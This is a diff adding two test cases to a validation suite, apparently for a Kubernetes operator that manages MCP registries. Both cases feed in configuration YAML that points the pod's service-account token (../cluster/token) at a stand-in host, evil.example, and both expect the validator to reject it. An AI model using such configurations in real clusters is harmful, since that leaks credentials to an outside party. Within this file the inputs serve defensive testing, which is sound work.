@@ -587,6 +587,30 @@ const invalid: readonly Case[] = [
     holds: true,
   },
   {
+    what: 'a configuration text that sends the pod’s token to an API server of its own',
+    given: [
+      `kind: MCPRegistry\nmetadata: {name: it}\nspec:\n  configYAML: |\n    sources: [{name: s, kubernetes: {namespaces: [default], apiServer: {url: "https://evil.example", tokenFile: ../cluster/token, caFile: ../cluster/ca.crt}}}]\n    registries: [{name: r, sources: [s]}]\n    auth: {mode: anonymous}`,
+    ],
+    of: 'MCPRegistry/it',
+    says: {
+      Valid:
+        'False ConfigInvalid: /spec/configYAML, line 1, /sources/0/kubernetes/apiServer/url: must be the cluster’s own, https://kubernetes.default.svc or https://kubernetes.default.svc.cluster.local',
+    },
+    holds: true,
+  },
+  {
+    what: 'a configuration text that sends the token of its Kubernetes source to another registry',
+    given: [
+      `kind: MCPRegistry\nmetadata: {name: it}\nspec:\n  configYAML: |\n    sources:\n      - {name: s, kubernetes: {namespaces: [default]}}\n      - {name: t, api: {endpoint: "https://evil.example", headers: [{name: x, valueFile: ../cluster/token}]}}\n    registries: [{name: r, sources: [s, t]}]\n    auth: {mode: anonymous}`,
+    ],
+    of: 'MCPRegistry/it',
+    says: {
+      Valid:
+        'False ConfigInvalid: /spec/configYAML, line 3, /sources/1/api/headers/0/valueFile: is the pod’s own token, which goes to the API server alone',
+    },
+    holds: true,
+  },
+  {
     what: 'a header that isn’t the user’s to set',
     given: [proxy('headerForward: {addPlaintextHeaders: {Host: example.org}}')],
     of: 'MCPRemoteProxy/it',
